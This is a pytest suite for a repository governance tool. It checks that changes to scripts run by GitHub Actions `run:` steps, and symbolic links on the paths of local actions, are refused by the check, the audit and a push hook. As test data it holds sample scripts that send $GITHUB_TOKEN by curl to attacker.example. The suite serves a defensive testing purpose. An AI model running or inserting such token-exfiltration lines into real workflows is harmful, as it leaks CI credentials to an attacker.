"""What a governed workflow runs beyond what GitHub resolves for it: the files its `run:` steps name, and
symbolic links on the way to, or inside, what it runs. Real repositories adopted by `governance init`,
the check, the audit and a real `git push` into a bare repository with the hook."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from governance.cli import main
from governance.errors import GovernanceError
from governance.gate.audit import run_audit
from governance.gate.check import CheckReport, run_check
from governance.gate.local_actions import run_uses
from governance.i18n import reset_language
from governance.strict_yaml import load
from tests.gate.test_hook import _push, with_server
from tests.gate.test_local_actions import (
    ACTION,
    STEALS,
    TODAY,
    TODAY_ENV,
    WORKFLOW,
    _check,
    _init,
    _propose,
    _workflow,
    adopted,
)
from tests.testing.gitrepo import GitRepo
from tests.testing.governed import Governed
from tests.testing.sshkeys import Keys

__all__ = ["adopted"]  # the fixture, used by name

RUNS = """name: publish
on:
  push:
    branches: [main]
permissions:
  contents: write
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - name: Publish
        run: |
          echo "publishing"
          {command}
"""
SCRIPT = "#!/bin/sh\necho publish\n"
EVIL = '#!/bin/sh\ncurl -d "$GITHUB_TOKEN" https://attacker.example/\n'


def _runs(adopted: Governed, command: str, files: dict[str, str], ident: str = "BD-2026-201") -> None:
    """Main runs `command` in an approved workflow, the files it names committed beside it."""
    _propose(adopted, "runs", ident, {WORKFLOW: RUNS.format(command=command), **files}, approve=(WORKFLOW,))
    adopted.merge("runs")


def _run_refusal(path: str, named: str, line: int = 13) -> str:
    return (
        f"{path}: {WORKFLOW}:{line} runs {named} in a `run:` step, and it is not governed, so this change alters "
        f"what the workflow runs without a decision; add {named} to governed_paths in governance.yml (with its "
        "resolution), then propose this change with its own"
    )


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("./scripts/publish.sh", "scripts/publish.sh"),
        ("bash tools/x.sh --fast", "tools/x.sh"),
        ("python3 build.py", "build.py"),
        ("make publish", "Makefile"),
        ("npm ci && npm run publish", "package.json"),
        ("bash $'./scripts/publish\\x2esh'", "scripts/publish.sh"),  # bash's ANSI-C quotes
        ('"./scripts/pub\\\n          lish.sh"', "scripts/publish.sh"),  # a backslash-newline in "..."
        # A here-document before it: its apostrophe is data, not a quote swallowing the lines after it.
        (
            'cat <<EOF >> "$GITHUB_STEP_SUMMARY"\n          The site\'s build\n          EOF\n'
            "          ./scripts/publish.sh",
            "scripts/publish.sh",
        ),
    ],
)
def test_a_change_to_a_file_a_workflow_runs_is_refused_by_the_check_and_the_audit(
    adopted: Governed, command: str, path: str
) -> None:
    _runs(adopted, command, {path: SCRIPT})
    adopted.branch("faster")
    adopted.repo.write(path, EVIL)
    adopted.repo.commit("Speed up publishing")

    report = run_check(adopted.path, "main", "faster", today=TODAY)
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)

    assert report.violations == [_run_refusal(path, path)]
    assert [c.subject for c in audit.bad_commits] == ["Speed up publishing"]
    assert audit.bad_commits[0].violations == [_run_refusal(path, path)]


@pytest.mark.parametrize(
    ("path", "named"),
    [
        ("tools/__init__.py", "tools/__init__.*"),
        ("tools/publish/__main__.py", "tools/publish"),
        ("tools/publish/__init__.py", "tools/publish"),
        # Forms Python's path finder takes in place of the source: a compiled extension beside it (before
        # tools/publish/), a stale .pyc in __pycache__ (an unchecked-hash one runs whatever the source says)
        ("tools/publish.cpython-311-x86_64-linux-gnu.so", "tools/publish.*"),
        ("tools/__pycache__/__init__.cpython-311.pyc", "tools/__pycache__/__init__.*"),
        ("tools/__init__.pyc", "tools/__init__.*"),
        ("tools.py", "tools.*"),
    ],
)
def test_a_change_to_a_file_python_runs_or_imports_for_a_module_is_refused(
    adopted: Governed, path: str, named: str
) -> None:
    """`python -m tools.publish` imports tools/__init__.py, then tools/publish/__init__.py, and runs
    tools/publish/__main__.py, each in whichever form Python's path finder takes first: a change to any
    of them changes what the workflow runs."""
    package = {
        "tools/__init__.py": "",
        "tools/publish/__init__.py": "",
        "tools/publish/__main__.py": "print('publish')\n",
    }
    _runs(adopted, "python3 -m tools.publish --fast", package)
    adopted.branch("faster")
    adopted.repo.write(path, "import os\nos.system('curl -d \"$GITHUB_TOKEN\" https://attacker.example/')\n")
    adopted.repo.commit("Speed up publishing")

    report = run_check(adopted.path, "main", "faster", today=TODAY)
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)

    refusal = _run_refusal(path, named) if "*" not in named else _may_run_refusal(path, named)
    assert report.violations == [refusal]
    assert [c.subject for c in audit.bad_commits] == ["Speed up publishing"]
    assert audit.bad_commits[0].violations == [refusal]


def _may_run_refusal(path: str, named: str, line: int = 13) -> str:
    return (
        f"{path}: {WORKFLOW}:{line} may run it in a `run:` step ({named}: which file is known only when the "
        "step runs), and it is not governed, so this change may alter what the workflow runs without a "
        "decision; add it to governed_paths in governance.yml (with its resolution), then propose this "
        "change with its own"
    )


@pytest.mark.parametrize(
    ("command", "path", "named", "beside"),
    [
        # GitHub writes `${{ github.ref_name }}` into the script before the shell runs it: some file of
        # scripts/ whose name starts with publish- and ends with .sh
        (
            "./scripts/publish-${{ github.ref_name }}.sh",
            "scripts/publish-main.sh",
            "scripts/publish-*.sh",
            "",
        ),
        # at the root too, where the expression named no folder and nothing was read
        ("./publish-${{ github.ref_name }}.sh", "publish-main.sh", "publish-*.sh", "publish.txt"),
        ("for script in ./publish-*.sh; do $script; done", "publish-main.sh", "publish-*.sh", "README.md"),
        # a folder known only when the step runs: the script of that name in any folder
        (
            'cd "$RUNNER_TEMP/../policies" && ./publish-main.sh',
            "tools/publish-main.sh",
            "**/publish-main.sh",
            "",
        ),
        ("make -C ${{ inputs.folder }}", "build/Makefile", "**/Makefile", "build/x.mk"),
        # a variable is read as a pattern is: a name, or before a `/` a folder
        ('bash "$GITHUB_WORKSPACE/scripts/publish.sh"', "scripts/publish.sh", "**/scripts/publish.sh", ""),
        ("./scripts/publish-$TARGET.sh", "scripts/publish-main.sh", "scripts/publish-*.sh", "scripts/x.sh"),
        # names xargs feeds a shell; a file a tool reads without naming it, in any folder
        ("git ls-files '*.sh' | xargs -n1 bash", "scripts/publish.sh", "**/*", ""),
        ("timeout 600 pytest -q", "tests/conftest.py", "**/conftest.py", "tests/data.txt"),
        ("${{ inputs.command }} --fast", "docs/notes.md", "**/*", ""),  # a command GitHub writes in
    ],
    ids=[
        "expression",
        "expression-at-root",
        "glob-at-root",
        "unknown-folder",
        "make-unknown-folder",
        "variable-folder",
        "variable-name",
        "xargs",
        "conftest",
        "expression-command",
    ],
)
def test_a_change_to_a_script_a_pattern_may_name_is_refused(
    adopted: Governed, monkeypatch: pytest.MonkeyPatch, command: str, path: str, named: str, beside: str
) -> None:
    """A name or a folder known only when the step runs stands for every file it may be: each needs a
    decision, and a file it cannot be (`beside`) still does not."""
    _runs(adopted, command, {path: SCRIPT, **({beside: SCRIPT} if beside else {})})
    if beside:
        adopted.branch("beside")
        adopted.repo.write(beside, EVIL)
        adopted.repo.commit("Change the file beside")
        assert run_check(adopted.path, "main", "beside", today=TODAY).violations == []
        adopted.repo.git("checkout", "-q", "main")
    adopted.branch("faster")
    adopted.repo.write(path, EVIL)
    adopted.repo.commit("Speed up publishing")

    report = run_check(adopted.path, "main", "faster", today=TODAY)
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)

    assert report.violations == [_may_run_refusal(path, named)]
    assert audit.bad_commits[0].violations == report.violations
    with _japanese(monkeypatch):
        code, output = _check(adopted, "faster")
    assert (
        code == 1
        and f"{path}: {WORKFLOW}:13 は `run:` ステップでこれを実行することがあります ({named}:" in output
    )


@pytest.mark.parametrize(
    "command",
    [
        "cd scripts && ./publish.sh",
        "cd scripts\n          bash publish.sh --fast",
        "pushd scripts; ./publish.sh; popd",
        "(cd scripts || exit 1; python3 publish.sh)",
        "bash -c 'cd scripts && ./publish.sh'",
        "env --chdir=scripts ./publish.sh",
        "Set-Location scripts; ./publish.sh",  # PowerShell's
        ".\\scripts\\publish.sh",  # a Windows runner's separator
        "bash -ec './scripts/publish.sh'",  # -c among other options
    ],
)
def test_a_change_to_a_script_run_after_a_literal_cd_is_refused(adopted: Governed, command: str) -> None:
    """`cd scripts && ./publish.sh` runs scripts/publish.sh: it was read from the root, as publish.sh, so
    a change to scripts/publish.sh passed; so did PowerShell's cd, a backslash as pwsh reads it, and
    `bash -ec`'s script."""
    _runs(adopted, command, {"scripts/publish.sh": SCRIPT})
    adopted.branch("faster")
    adopted.repo.write("scripts/publish.sh", EVIL)
    adopted.repo.commit("Speed up publishing")

    report = run_check(adopted.path, "main", "faster", today=TODAY)
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)

    assert report.violations == [_run_refusal("scripts/publish.sh", "scripts/publish.sh")]
    assert audit.bad_commits[0].violations == report.violations


STEP_FOLDER = """name: publish
on:
  push:
    branches: [main]
jobs:
  publish:
    runs-on: ubuntu-24.04
    defaults:
      run:
        working-directory: tools
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: ./build.sh
        working-directory: web
      - run: ./check.sh
      - run: echo checked
        shell: ./wrapper {0}
"""


@pytest.mark.parametrize(
    ("path", "line"),
    [("web/build.sh", 13), ("tools/check.sh", 15), ("tools/wrapper", 17)],
    ids=["step-folder", "job-folder", "custom-shell"],
)
def test_a_script_run_from_a_working_directory_or_as_the_shell_is_refused(
    adopted: Governed, path: str, line: int
) -> None:
    """The runner starts a step in its `working-directory:` (the step's, else its job's `defaults.run`),
    and runs a custom `shell:` command: ./build.sh there is web/build.sh, and ./wrapper is a file too."""
    files = {"web/build.sh": SCRIPT, "tools/check.sh": SCRIPT, "tools/wrapper": SCRIPT}
    _propose(adopted, "runs", "BD-2026-201", {WORKFLOW: STEP_FOLDER, **files}, approve=(WORKFLOW,))
    adopted.merge("runs")
    adopted.branch("faster")
    adopted.repo.write(path, EVIL)
    adopted.repo.commit("Speed up publishing")

    report = run_check(adopted.path, "main", "faster", today=TODAY)
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)

    assert report.violations == [_run_refusal(path, path, line)]
    assert audit.bad_commits[0].violations == report.violations


def _changed_after(adopted: Governed, workflow: str, path: str) -> CheckReport:
    """Main runs the approved `workflow` beside `path`; the check of a pull request changing only `path`."""
    _propose(adopted, "runs", "BD-2026-201", {WORKFLOW: workflow, path: SCRIPT}, approve=(WORKFLOW,))
    adopted.merge("runs")
    adopted.branch("faster")
    adopted.repo.write(path, EVIL)
    adopted.repo.commit("Speed up publishing")
    return run_check(adopted.path, "main", "faster", today=TODAY)


def test_a_cd_is_read_from_the_step_s_working_directory(adopted: Governed) -> None:
    """`working-directory: web` and `cd tools && ./build.sh` run web/tools/build.sh."""
    workflow = STEP_FOLDER.replace("- run: ./build.sh\n", "- run: cd tools && ./build.sh\n")

    report = _changed_after(adopted, workflow, "web/tools/build.sh")

    assert report.violations == [_run_refusal("web/tools/build.sh", "web/tools/build.sh")]


def test_a_change_beside_an_approved_one_is_refused_too(adopted: Governed) -> None:
    """The commit also changes a governed file with its decision, so the judge reads it in full: the
    script it changes beside that is still refused."""
    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    _propose(
        adopted,
        "both",
        "BD-2026-202",
        {"CODEOWNERS": "* @board\n", "scripts/publish.sh": EVIL},
        approve=("CODEOWNERS",),
    )

    code, output = _check(adopted, "both")
    audit = run_audit(adopted.path, "both", today=TODAY, works=False)

    assert code == 1, output
    assert "scripts/publish.sh: " in output and f"{WORKFLOW}:13 runs scripts/publish.sh" in output
    assert audit.bad_commits[0].violations == [_run_refusal("scripts/publish.sh", "scripts/publish.sh")]


def test_a_governed_script_changes_with_its_decision(adopted: Governed) -> None:
    config = (adopted.path / "governance.yml").read_text(encoding="utf-8")
    governing = config + "governed_paths:\n  - mkdocs.yml\n  - site/*\n  - scripts/*\n"
    _propose(
        adopted, "govern", "BD-2026-203", {"governance.yml": governing}, approve=(), amend=("governance.yml",)
    )
    adopted.merge("govern")
    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT}, ident="BD-2026-204")
    _propose(
        adopted,
        "faster",
        "BD-2026-205",
        {"scripts/publish.sh": EVIL},
        approve=(),
        amend=("scripts/publish.sh",),
    )

    code, output = _check(adopted, "faster")

    assert code == 0, output


def test_the_rule_applies_from_the_commit_whose_rules_turn_it_on(
    tmp_path: Path, keys: Keys, seed_text: str
) -> None:
    """A repository adopted before the rule (no `judge_run_steps` in governance.yml) audits as it did: its
    history holds changes no decision can cover now. Its board turns the rule on; from then on a change
    to the script is refused, and the changes before stay as they were judged."""
    repo = GitRepo.init(tmp_path / "policies")
    repo.write("regulations/bribery-prevention.md", seed_text)
    repo.commit("Regulations")
    _init(repo, keys)
    config = (repo.path / "governance.yml").read_text(encoding="utf-8")
    repo.write("governance.yml", config.replace("judge_run_steps: true\n", ""))
    repo.commit("Adopt regulation governance")
    gov = Governed(repo, keys)
    _runs(gov, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    repo.write("scripts/publish.sh", SCRIPT + "echo again\n")
    repo.commit("Publish twice, before the rule")
    _propose(gov, "on", "BD-2026-206", {"governance.yml": config}, approve=(), amend=("governance.yml",))
    gov.merge("on")
    repo.write("scripts/publish.sh", EVIL)
    repo.commit("Speed up publishing")

    audit = run_audit(repo.path, "main", today=TODAY, works=False)

    assert [c.subject for c in audit.bad_commits] == ["Speed up publishing"]


def test_the_hook_refuses_a_push_changing_only_a_script_a_workflow_runs(
    adopted: Governed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _runs(adopted, "bash scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    with_server(adopted, tmp_path / "server.git")
    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
    adopted.repo.write("README.md", "Our policies\n")
    adopted.repo.commit("Say what this repository is")
    adopted.repo.write("scripts/publish.sh", EVIL)
    steals = adopted.repo.commit("Speed up publishing")

    refused = _push(adopted, "main")

    assert refused.returncode != 0, refused.stderr
    assert (
        f"refs/heads/main: commit {steals[:12]} (Speed up publishing): "
        f"{_run_refusal('scripts/publish.sh', 'scripts/publish.sh')}" in " ".join(refused.stderr.split())
    ), refused.stderr
    assert "(Say what this repository is)" not in refused.stderr


@contextlib.contextmanager
def _japanese(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The commands run in between speak Japanese, as for a user whose LANG is ja_JP.UTF-8."""
    monkeypatch.setenv("LANG", "ja_JP.UTF-8")
    for name in ("LANGUAGE", "LC_ALL", "LC_MESSAGES"):
        monkeypatch.delenv(name, raising=False)
    reset_language()
    try:
        yield
    finally:
        monkeypatch.undo()
        reset_language()


def test_a_refused_script_change_is_said_in_japanese(
    adopted: Governed, monkeypatch: pytest.MonkeyPatch
) -> None:
    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    adopted.branch("faster")
    adopted.repo.write("scripts/publish.sh", EVIL)
    adopted.repo.commit("Speed up publishing")
    with _japanese(monkeypatch):
        code, output = _check(adopted, "faster")

    assert code == 1, output
    assert (
        f"scripts/publish.sh: {WORKFLOW}:13 は `run:` ステップで scripts/publish.sh を実行しますが" in output
    ), output


# Symbolic links on the way to, or inside, what a workflow runs.


def _governing(adopted: Governed, pattern: str, workflow: str, ident: str) -> None:
    """Main governs `pattern` and runs `workflow`, both by one decision."""
    config = (adopted.path / "governance.yml").read_text(encoding="utf-8")
    governing = config + f"governed_paths:\n  - mkdocs.yml\n  - site/*\n  - {pattern}\n"
    files = {"governance.yml": governing, WORKFLOW: workflow}
    _propose(adopted, "govern", ident, files, approve=(WORKFLOW,), amend=("governance.yml",))
    adopted.merge("govern")


def _link_on_path(link: str, uses: str = "./tools/deploy") -> str:
    return (
        f"{link}: a symbolic link on the path of the local action {uses} that {WORKFLOW}:13 runs: the runner "
        "follows it, to files no decision covers; put the folder itself there, not a link, or name the folder "
        "the link points to in the workflow"
    )


def test_a_link_above_a_governed_action_folder_not_made_yet_is_refused(
    adopted: Governed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """tools/deploy/* is governed and the workflow runs ./tools/deploy, which nobody has made yet; a pull
    request making `tools` a link to an ungoverned folder changes no governed file, and the runner would
    run vendor/deploy/action.yml. The check, the audit and the hook refuse it, naming the link."""
    _governing(adopted, "tools/deploy/*", _workflow("./tools/deploy"), "BD-2026-210")
    with_server(adopted, tmp_path / "server.git")
    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
    adopted.branch("vendor")
    adopted.repo.write("vendor/deploy/action.yml", STEALS)
    (adopted.path / "tools").symlink_to("vendor")
    adopted.repo.commit("Vendor the deploy tools")

    report = run_check(adopted.path, "main", "vendor", today=TODAY)
    audit = run_audit(adopted.path, "vendor", today=TODAY, works=False)
    adopted.merge("vendor")
    refused = _push(adopted, "main")

    assert report.violations == [_link_on_path("tools")]
    assert [c.subject for c in audit.bad_commits] == ["Vendor the deploy tools"]
    assert audit.bad_commits[0].violations == [_link_on_path("tools")]
    assert refused.returncode != 0, refused.stderr
    assert _link_on_path("tools") in " ".join(refused.stderr.split()), refused.stderr


def test_a_link_on_the_path_of_an_action_under_github_is_refused(adopted: Governed) -> None:
    """A link under .github/ is a governed file, refused as one (a decision approves a plain file only);
    the check also names it as a link on the action's path."""
    action = "./.github/actions/deploy"
    _propose(adopted, "workflow", "BD-2026-211", {WORKFLOW: _workflow(action)}, approve=(WORKFLOW,))
    adopted.merge("workflow")
    adopted.branch("vendor")
    adopted.repo.write("vendor/deploy/action.yml", STEALS)
    (adopted.path / ".github" / "actions").symlink_to("../vendor")
    adopted.repo.commit("Vendor the deploy tools")

    report = run_check(adopted.path, "main", "vendor", today=TODAY)

    assert _link_on_path(".github/actions", action) in report.violations
    assert [v.reasons for v in report.verdicts] == [
        (".github/actions is a symbolic link; a governed file must be a plain file",)
    ]


def test_an_adoption_with_a_link_inside_an_action_folder_is_refused(
    tmp_path: Path, keys: Keys, seed_text: str
) -> None:
    """A link inside the folder of an action a workflow runs: whatever it points to runs, and its changes
    would need no decision. Such a link cannot arrive with a decision (a governed file must be a plain
    file), so it comes with the adoption, where the audit refuses it."""
    repo = GitRepo.init(tmp_path / "policies")
    repo.write("regulations/bribery-prevention.md", seed_text)
    repo.commit("Regulations")
    _init(repo, keys)  # init refuses such a link: it is added after, into the adoption commit
    repo.write(WORKFLOW, _workflow("./.github/actions/deploy"))
    repo.write(".github/actions/deploy/action.yml", ACTION.replace("echo deploying", "./run.sh"))
    repo.write("scripts/run.sh", SCRIPT)
    (repo.path / ".github/actions/deploy/run.sh").symlink_to("../../../scripts/run.sh")
    adoption = repo.commit("Adopt regulation governance")

    report = run_audit(repo.path, "HEAD", today=TODAY, works=False)

    assert [c.commit for c in report.bad_commits] == [adoption]
    assert report.bad_commits[0].violations == [
        f".github/actions/deploy/run.sh: a symbolic link inside the folder .github/actions/deploy of the local "
        f"action ./.github/actions/deploy that {WORKFLOW}:13 runs: a decision approves the link, never the files "
        "it points to, so their later changes would change what the workflow runs without one; put a copy of "
        "the file there instead of the link"
    ]


def test_a_link_in_place_of_the_folder_of_a_script_a_workflow_runs_is_refused(adopted: Governed) -> None:
    """The script's folder made a link to another: the commit removes the script and adds the link, and
    the runner would run vendor/publish.sh. Both are refused, the link as a link."""
    _runs(adopted, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    adopted.repo.write("vendor/publish.sh", EVIL)
    adopted.repo.git("rm", "-q", "-r", "scripts")
    (adopted.path / "scripts").symlink_to("vendor")
    adopted.repo.commit("Vendor the scripts")

    audit = run_audit(adopted.path, "main", today=TODAY, works=False)

    assert [c.subject for c in audit.bad_commits] == ["Vendor the scripts"]
    assert audit.bad_commits[0].violations == [
        f"scripts: a symbolic link on the path of scripts/publish.sh, which {WORKFLOW}:13 runs in a `run:` step: "
        "the runner follows it, to files no decision covers; put the files themselves there, not a link, or name "
        "the path the link points to in the workflow",
        _run_refusal("scripts/publish.sh", "scripts/publish.sh"),
    ]


def _governance(gov: Governed, *arguments: str) -> subprocess.CompletedProcess[str]:
    """`governance ARGUMENTS` in the repository as a user runs it, under a timeout: a stall fails."""
    return subprocess.run(
        [str(Path(sys.executable).parent / "governance"), *arguments],
        cwd=gov.path,
        env={**os.environ, **TODAY_ENV},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_a_workflow_naming_thousands_of_files_and_folders_is_read_in_one_pass(adopted: Governed) -> None:
    """A `run:` naming 12,000 files of one folder and 12,000 folders: each looked up by git (a scan of
    the folder's tree each time) and each folder listed by a git process of its own, the check took
    minutes; each tree is now read once and the folders listed by one process. The real command, under a
    timeout, and a link inside one of the folders still refused."""
    count = 12_000
    adopted.branch("many")
    for index in range(count):
        adopted.repo.write(f"d/f{index}", "x\n")
        adopted.repo.write(f"e/g{index}/x", "x\n")
    (adopted.path / "e" / "g7" / "y").symlink_to("../../d/f0")
    command = " ".join(["cat", *(f"d/f{i}" for i in range(count)), *(f"e/g{i}/" for i in range(count))])
    adopted.repo.write(WORKFLOW, RUNS.format(command=command))
    adopted.repo.commit("Publish every file")

    done = _governance(adopted, "check", "--base", "main", "--head", "many")

    assert done.returncode == 1, done.stdout + done.stderr
    assert f"e/g7/y: a symbolic link inside e/g7, which {WORKFLOW}:13 runs" in " ".join(done.stdout.split())


def test_a_run_naming_a_path_of_200000_folders_is_read_in_one_pass(adopted: Governed) -> None:
    """A `run:` word of 200,000 folders (400 KB): the index of the folders above each named path held
    every prefix of it, 200,000 strings of up to 400 KB (40 GB); now one sorted list. A commit making the
    top folder a file is still refused, by the real command under a timeout."""
    deep = "/".join(["a"] * 200_000)
    _runs(adopted, f"cat {deep}/x", {})
    adopted.branch("file")
    adopted.repo.write("a", "not a folder\n")
    adopted.repo.commit("Make a a file")

    done = _governance(adopted, "check", "--base", "main", "--head", "file")

    assert done.returncode == 1, done.stdout + done.stderr
    assert f"a: {WORKFLOW}:13 runs a/a/a/" in done.stdout, done.stdout[:2000]


def test_a_workflow_running_20000_ungoverned_actions_is_audited_in_one_pass(adopted: Governed) -> None:
    """A workflow running 20,000 local actions of ungoverned folders (refused where it came), then a
    commit changing 20,000 files: each file was compared with each folder (400 million comparisons, for
    every later commit too); now a look-up per folder above the file. The audit, by the real command
    under a timeout, still names the one file inside an action's folder."""
    count = 20_000
    steps = "".join(f"      - uses: ./tools/a{index}\n" for index in range(count))
    adopted.repo.write(WORKFLOW, _workflow("./tools/a0").split("    steps:\n")[0] + "    steps:\n" + steps)
    adopted.repo.commit("Run every tool")
    for index in range(count):
        adopted.repo.write(f"data/f{index}", "x\n")
    adopted.repo.write("tools/a7/action.yml", STEALS)
    added = adopted.repo.commit("Add the data")

    done = _governance(adopted, "audit")

    assert done.returncode == 1, done.stdout + done.stderr
    said = " ".join(done.stdout.split())
    assert f"commit {added[:12]} Add the data" in said, done.stdout[-2000:]
    assert f"tools/a7/action.yml: it is part of the local action ./tools/a7 that {WORKFLOW}:" in said
    assert "data/f1:" not in said


def test_a_link_in_place_of_a_scripts_folder_is_refused_in_a_sha256_repository(
    tmp_path: Path, keys: Keys, seed_text: str
) -> None:
    """Trees read by the gate itself hold ids of 32 bytes in a SHA-256 repository: read as 20, the
    folder's entries were garbage and the audit stopped on a UnicodeDecodeError."""
    path = tmp_path / "policies"
    subprocess.run(["git", "init", "-q", "--object-format=sha256", "-b", "main", str(path)], check=True)
    repo = GitRepo(path)
    repo.write("regulations/bribery-prevention.md", seed_text)
    repo.commit("Regulations")
    _init(repo, keys)
    repo.commit("Adopt regulation governance")
    gov = Governed(repo, keys)
    _runs(gov, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    repo.write("vendor/publish.sh", EVIL)
    repo.git("rm", "-q", "-r", "scripts")
    (repo.path / "scripts").symlink_to("vendor")
    repo.commit("Vendor the scripts")

    audit = run_audit(repo.path, "main", today=TODAY, works=False)

    assert len(repo.head()) == 64
    assert [c.subject for c in audit.bad_commits] == ["Vendor the scripts"]
    assert (
        audit.bad_commits[0]
        .violations[0]
        .startswith(f"scripts: a symbolic link on the path of scripts/publish.sh, which {WORKFLOW}:13 runs")
    )


@pytest.mark.parametrize(
    ("files", "size", "said"),
    [
        (1_001, 20, "it is one of more than 1,000 workflow and action files under .github/ (the limit)"),
        (
            5,
            4_000_000,
            "with it the workflow and action files under .github/ hold more than 16 MiB (the limit)",
        ),
    ],
)
def test_workflows_beyond_the_limits_together_are_not_read(
    adopted: Governed, files: int, size: int, said: str
) -> None:
    """Each workflow is read within 4 MiB, about 3 s of the gate's time at most: a pull request adding a
    hundred stalled the check for minutes. Past 1,000 files or 16 MiB together the rest is not read,
    and the gate refuses as for a workflow it cannot read, naming the first file past the limit."""
    adopted.branch("many")
    for index in range(files):
        adopted.repo.write(f".github/workflows/w{index:04}.yml", "on: push\n#" + "x" * size + "\n")
    adopted.repo.commit("Many workflows")

    report = run_check(adopted.path, "main", "many", today=TODAY)

    first = f".github/workflows/w{files - 1:04}.yml"
    assert report.violations == [
        f"{first}: it cannot be read, so the gate cannot tell which local actions it runs: {said}; correct it"
    ]


@pytest.mark.parametrize("link", ["mkdocs.yml", "site"])
def test_init_refuses_a_symbolic_link_among_the_governed_files(
    tmp_path: Path, keys: Keys, seed_text: str, link: str
) -> None:
    """A link cannot arrive with a decision (a governed file must be a plain file), so one under
    governed_paths can only be there before the adoption: init refuses it, naming it."""
    repo = GitRepo.init(tmp_path / "policies")
    repo.write("regulations/bribery-prevention.md", seed_text)
    repo.write("build/mkdocs.yml", "site_name: Policies\n")
    repo.write("build/site/index.md", "# Policies\n")
    (repo.path / link).symlink_to(f"build/{link}")
    repo.commit("Regulations and the site")

    init = CliRunner().invoke(
        main,
        [
            *("init", "--key", str(keys.secretary.private), "--identity", keys.secretary.identity),
            *("--members", "3", "--root", str(repo.path)),
        ],
        env={"GOVERNANCE_TODAY": "2026-12-01"},
    )

    assert init.exit_code != 0, init.output
    assert f"{link}: is a symbolic link among the files a decision governs" in " ".join(init.output.split())
    assert not (repo.path / "governance.yml").exists()


def test_a_script_repeated_by_aliases_is_read_once() -> None:
    """Aliases may repeat one `run:` script 100,000 times (of up to 4 MiB; 10,000 here): read once, each path named
    once, at its first line; read again each time, the gate would stall."""
    rows = ['s: &s "./scripts/x.sh && bash tools/y.sh"', "st: &st {run: *s}"]
    rows += ["l0: &l0 [*st, *st, *st, *st, *st, *st, *st, *st, *st, *st]"]
    rows += [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, 4)]
    text = "\n".join(["on: push", *rows, "jobs: {a: {steps: *l3}}"]) + "\n"

    runs = run_uses(load(text, WORKFLOW, aliases=True), WORKFLOW)

    assert [(use.path, use.line) for use in runs] == [("scripts/x.sh", 3), ("tools/y.sh", 3)]


# With judge_run_steps off (a repository adopted before the rule, or that keeps it off), the changes the
# rule would refuse are said as notes: the exit codes stay as they are, the administrator learns of them.


@pytest.fixture
def unjudging(tmp_path: Path, keys: Keys, seed_text: str) -> Governed:
    """A repository adopted without `judge_run_steps` in its governance.yml, whose approved workflow runs
    ./scripts/publish.sh."""
    repo = GitRepo.init(tmp_path / "policies")
    repo.write("regulations/bribery-prevention.md", seed_text)
    repo.commit("Regulations")
    _init(repo, keys)
    config = (repo.path / "governance.yml").read_text(encoding="utf-8")
    assert "judge_run_steps: true\n" in config
    repo.write("governance.yml", config.replace("judge_run_steps: true\n", ""))
    repo.commit("Adopt regulation governance")
    gov = Governed(repo, keys)
    _runs(gov, "./scripts/publish.sh", {"scripts/publish.sh": SCRIPT})
    return gov


def _note(path: str = "scripts/publish.sh") -> str:
    return (
        f"{path}: {WORKFLOW}:13 runs {path} in a `run:` step, and no decision judged this change: governance.yml "
        "leaves judge_run_steps off, so a change to a file a `run:` step names is not judged; to judge such "
        f"changes, set `judge_run_steps: true` in governance.yml and add {path} to governed_paths (with their "
        "resolution)"
    )


def _history_note(commits: int, last: str, path: str = "scripts/publish.sh") -> str:
    return (
        f"{path}: {commits} commit(s) changed it without a decision, the last {last[:12]}, when {WORKFLOW}:13 "
        f"ran {path} in a `run:` step: governance.yml left judge_run_steps off, so a change to a file a `run:` "
        "step names was not judged; to judge such changes, set `judge_run_steps: true` in governance.yml and "
        f"add {path} to governed_paths (with their resolution)"
    )


def test_with_the_rule_off_a_change_to_a_script_a_workflow_runs_is_noted_not_refused(
    unjudging: Governed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The check, the audit and the hook (a real push) accept the change, as the rule is off, and each says
    which file changed, which workflow line runs it, that it is not judged and how to judge it."""
    with_server(unjudging, tmp_path / "server.git")
    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
    unjudging.branch("faster")
    unjudging.repo.write("scripts/publish.sh", EVIL)
    unjudging.repo.write("README.md", "Our policies\n")  # no workflow runs it: no note of its own
    first = unjudging.repo.commit("Speed up publishing")
    unjudging.repo.write("scripts/publish.sh", EVIL + "echo twice\n")
    last = unjudging.repo.commit("Publish twice")

    code, output = _check(unjudging, "faster")
    report = run_check(unjudging.path, "main", "faster", today=TODAY)
    audit = run_audit(unjudging.path, "faster", today=TODAY, works=False)
    since = run_audit(unjudging.path, "faster", today=TODAY, since=first, works=False)
    merged = unjudging.merge("faster")  # one commit of main's first-parent line
    pushed = _push(unjudging, "main")

    assert code == 0, output
    assert report.ok and report.violations == []
    assert report.notes == [_note()]
    assert f"note: {_note()}" in " ".join(output.split())
    assert audit.ok and audit.notes == [_history_note(2, last)]
